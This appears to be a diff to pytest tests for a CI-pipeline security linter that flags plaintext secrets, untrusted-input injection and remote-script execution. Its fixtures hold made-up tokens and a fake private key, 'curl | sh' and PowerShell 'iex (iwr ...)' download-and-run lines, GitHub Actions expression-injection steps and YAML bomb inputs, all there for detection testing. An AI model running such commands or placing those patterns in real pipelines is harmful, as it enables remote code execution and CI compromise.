@@ -8,6 +8,7 @@ from tests.conftest import ids, look_at, severe
 
 TOKEN = "hf_" + "kQzWvTbXyRmNpLsDfGhJcVaEuIoPxZtYwB"  # made up; has the form of a real one
 HEX = "9f3c1a7e5b2d8046c1f09a3e7d5b2c8461e0f9a3"
+PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n-----END PRIVATE KEY-----\n"
 WORKFLOW = ".github/workflows/ci.yml"
 SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
 
@@ -44,7 +45,10 @@ def test_pinned_workflow_is_quiet() -> None:
         (WORKFLOW, f"on: push\njobs:\n  a:\n    env:\n      API_SECRET: {HEX}\n"),
         (".gitlab-ci.yml", "test:\n  variables:\n    DB_PASSWORD: 'Tr0ub4dor3xx'\n  script: [make]\n"),
         ("params.yaml", f"tracking:\n  uri: https://ml:{HEX}@mlflow.internal\n"),
-        ("argo.yaml", f"apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  env:\n  - name: WANDB_API_KEY\n    value: {HEX}\n"),
+        (
+            "argo.yaml",
+            f"apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  env:\n  - name: WANDB_API_KEY\n    value: {HEX}\n",
+        ),
         ("values.yaml", f"{{{{ if x }}}}\napi_token: {HEX}\n"),
         (".env", f"WANDB_API_KEY={HEX}\n"),
         (".env.production", "DB_PASSWORD='Tr0ub4dor3xx'\n"),
@@ -56,7 +60,9 @@ def test_pinned_workflow_is_quiet() -> None:
         ("train.py", f"os.environ['MLFLOW_TRACKING_TOKEN'] = '{HEX}'\n"),
         ("train.py", f"t = os.getenv('API_TOKEN', '{HEX}')\n"),
         ("run.sh", f"export HF_TOKEN={TOKEN}\n"),
+        ("deploy.pem", PEM),
         ("kaggle.json", f'{{"username": "u", "hf": "{TOKEN}"}}'),
+        ("kaggle.json", f'{{"username": "u", "key": "{HEX[:32]}"}}'),
         ("sample.env.example", f"HF_TOKEN={TOKEN}\n"),
     ],
 )
@@ -65,15 +71,22 @@ def test_tlg010_bad_plaintext(name: str, text: str) -> None:
     assert ids(report) == {"TLG010"}
     (finding,) = report.findings
     assert (finding.count, finding.severity.word) == (1, "high")
-    assert not any(secret in finding.message + finding.excerpt for secret in (TOKEN, HEX, "Tr0ub4dor3xx"))
-    assert finding.where.line == next(i for i, line in enumerate(text.split("\n"), 1) if TOKEN in line or HEX in line or "Tr0" in line)
+    assert not any(secret in finding.message + finding.excerpt for secret in (TOKEN, HEX[:32], "Tr0ub4dor3xx"))
+    assert finding.where.line == next(
+        i
+        for i, line in enumerate(text.split("\n"), 1)
+        if TOKEN in line or HEX[:32] in line or "Tr0" in line or "BEGIN" in line
+    )
 
 
 @pytest.mark.parametrize(
     ("name", "text"),
     [
         (".env.example", "API_KEY=your-key-here\nDB_PASSWORD=hunter2000\n"),
-        ("config.yaml", "password: ${DB_PASSWORD}\ntoken: !vault x\nsecret_name: my-secret-name\ntokenizer: bert\npad_token: '[PAD]'\n"),
+        (
+            "config.yaml",
+            "password: ${DB_PASSWORD}\ntoken: !vault x\nsecret_name: my-secret-name\ntokenizer: bert\npad_token: '[PAD]'\n",
+        ),
         ("conf/db.yaml", "user: postgres\npassword: postgres\n"),
         ("train.py", "password = 'made-up-4-test'\npad_token = '<pad>'\ntoken = tokens[0]\nkey='a'\n"),
         ("setup.sh", "export HF_TOKEN=$(cat /run/secrets/hf)\nPASSWORD=${PASSWORD:?}\n"),
@@ -150,7 +163,7 @@ def test_tlg012_good_unprivileged_or_base() -> None:
 @pytest.mark.parametrize(
     "step",
     [
-        "- run: echo \"${{ github.event.issue.title }}\"",
+        '- run: echo "${{ github.event.issue.title }}"',
         "- run: |\n    set -e\n    echo ${{ github.event.pull_request.body }}",
         "- run: git checkout ${{ github.head_ref }}",
         "- run: echo ${{ github.event.commits[0].message }}",
@@ -169,7 +182,7 @@ def test_tlg014_bad_injection(step: str) -> None:
 @pytest.mark.parametrize(
     "step",
     [
-        "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}",
+        '- run: echo "$TITLE"\n  env:\n    TITLE: ${{ github.event.issue.title }}',
         "- run: echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ github.ref_name }}",
         "- if: github.event.issue.title == 'x'\n  run: make",
         "- run: echo ${{ contains(github.event.pull_request.title, 'x') }}",
@@ -190,11 +203,17 @@ def test_tlg014_good_expression(step: str) -> None:
         (WORKFLOW, workflow("- run: |\n    set -e\n    curl -LsSf https://x.example/i.sh | sh").decode()),
         (".gitlab-ci.yml", "a:\n  script:\n    - wget -qO- https://x.example/i.sh | bash\n"),
         ("azure-pipelines.yml", "steps:\n- bash: bash <(curl -s https://x.example/i.sh)\n"),
-        (".circleci/config.yml", "jobs:\n  a:\n    steps:\n    - run:\n        command: curl https://x.example | sudo sh\n"),
+        (
+            ".circleci/config.yml",
+            "jobs:\n  a:\n    steps:\n    - run:\n        command: curl https://x.example | sudo sh\n",
+        ),
         ("dvc.yaml", "stages:\n  a:\n    cmd: curl https://x.example/i.py | python3\n"),
         ("MLproject", "entry_points:\n  main:\n    command: 'curl https://x.example/i.sh | sh'\n"),
-        ("wf.yaml", "apiVersion: argoproj.io/v1\nkind: Workflow\nspec:\n  container:\n    command: [sh, -c]\n    args: ['curl https://x.example | sh']\n"),
-        ("pipe.yaml", "steps:\n  - script: powershell -c \"iex (iwr https://x.example/i.ps1)\"\n"),
+        (
+            "wf.yaml",
+            "apiVersion: argoproj.io/v1\nkind: Workflow\nspec:\n  container:\n    command: [sh, -c]\n    args: ['curl https://x.example | sh']\n",
+        ),
+        ("pipe.yaml", 'steps:\n  - script: powershell -c "iex (iwr https://x.example/i.ps1)"\n'),
     ],
 )
 def test_tlg013_bad_step(name: str, text: str) -> None:
@@ -231,7 +250,9 @@ def test_pipeline_that_is_no_yaml_is_held() -> None:
 
 
 def test_bombs_end() -> None:
-    lol = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"k{i}: &k{i} [{','.join(['*a' if i == 0 else f'*k{i - 1}'] * 9)}]\n" for i in range(60))
+    lol = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
+        f"k{i}: &k{i} [{','.join(['*a' if i == 0 else f'*k{i - 1}'] * 9)}]\n" for i in range(60)
+    )
     for data in (lol, "[" * 200_000, "- " * 100_000, "a: &a [*a, {b: *a}]\n", "? " * 50_000, "- a\n" * 150_000):
         assert "CHK001" not in ids(look_at(data.encode(), WORKFLOW))
         assert not severe(look_at(data.encode(), "any.yaml"))
@@ -240,7 +261,12 @@ def test_bombs_end() -> None:
 _SEED = workflow(CHECKOUT + "- run: echo ${{ github.head_ref }}; curl x | sh", "pull_request_target")
 
 
-@given(st.binary(max_size=20), st.integers(0, len(_SEED)), st.integers(0, 40), st.sampled_from([WORKFLOW, "a.yaml", "b.ini", "c.py", ".env", "d.sh"]))
+@given(
+    st.binary(max_size=20),
+    st.integers(0, len(_SEED)),
+    st.integers(0, 40),
+    st.sampled_from([WORKFLOW, "a.yaml", "b.ini", "c.py", ".env", "d.sh"]),
+)
 @settings(max_examples=100, deadline=None)
 def test_any_bytes_give_a_report(noise: bytes, at: int, cut: int, name: str) -> None:
     assert "CHK001" not in ids(look_at(_SEED[:at] + noise + _SEED[at + cut :], name))
